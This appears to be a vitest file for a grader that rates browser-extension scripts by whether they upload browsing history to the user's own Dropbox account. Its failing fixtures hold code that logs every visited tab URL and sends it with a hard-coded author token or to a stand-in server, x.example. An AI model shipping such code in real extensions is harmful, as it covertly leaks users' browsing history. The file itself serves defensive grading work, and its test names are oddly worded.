import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** Signs the person in at a service in a tab that is opened, and hears the token in its address. */
const SIGNS_IN =
  "let token; async function signIn() { const { id } = await chrome.tabs.create({ url: 'https://www.dropbox.com/oauth2/authorize?client_id=1&redirect_uri=https://notes.example' }); chrome.tabs.onUpdated.addListener((tab, change) => { if (tab !== id || !change.url) return; const said = new URLSearchParams(new URL(change.url).hash.slice(1)); if (said.get('access_token')) token = said.get('access_token'); }); } chrome.runtime.onInstalled.addListener(signIn);";
const sends = (to: string, token = 'token'): string =>
  `chrome.tabs.onUpdated.addListener(async (id, change, tab) => { const list = (await chrome.storage.local.get('list')).list ?? []; list.push(tab.url); await chrome.storage.local.set({ list }); await fetch('${to}', { method: 'POST', headers: { Authorization: 'Bearer ' + ${token} }, body: JSON.stringify(list) }); });`;
const UPLOAD = 'https://content.dropboxapi.com/2/files/upload';

it('takes the account that the person let it into, in a tab, for theirs', async () => {
  expect(await graded({ background: SIGNS_IN + sends(UPLOAD) })).toMatch(/^[AB]/);
});

it.each([
  ['an account of the author', sends(UPLOAD, "'sl.AbCdEfGhIjKlMnOp'")],
  ['an account of the author, beside a way in', SIGNS_IN + sends(UPLOAD, "'sl.AbCdEfGhIjKlMnOp'")],
  ['another server', SIGNS_IN + sends('https://x.example/upload')],
  ['a tab that is heard for no token', SIGNS_IN.replaceAll('access_token', 'state') + sends(UPLOAD)],
])('and not %s', async (_, background) => {
  expect(await graded({ background })).toMatch(/^[DF]/);
});

const SDK = (more: string): string =>
  `class Sync { constructor() { this.service = new Dropbox.Dropbox({ fetch, clientId: '1' }); } get back() { return 'https://notes.example'; } at() { return this.service.getAuthenticationUrl(this.back); } async put(file) { await this.service.filesUpload({ path: '/all.json', contents: file }); } } const sync = new Sync(); ${more}`;

it('takes what an object of one service is told for where the person comes back to', async () => {
  const signsIn =
    "chrome.tabs.create({ url: sync.at() || 'https://www.dropbox.com/oauth2/authorize' }); chrome.tabs.onUpdated.addListener((id, { url }) => { const said = new URLSearchParams(url.split('#')[1]); if (said.get('access_token')) sync.service.setAccessToken(said.get('access_token')); });";
  const puts = 'chrome.history.search({ text: "" }, (all) => sync.put(JSON.stringify(all)));';
  expect(await graded({ background: SDK(signsIn + puts) })).toMatch(/^[AB]/);
  expect(await graded({ background: SDK(puts) })).toMatch(/^[DF]/);
});
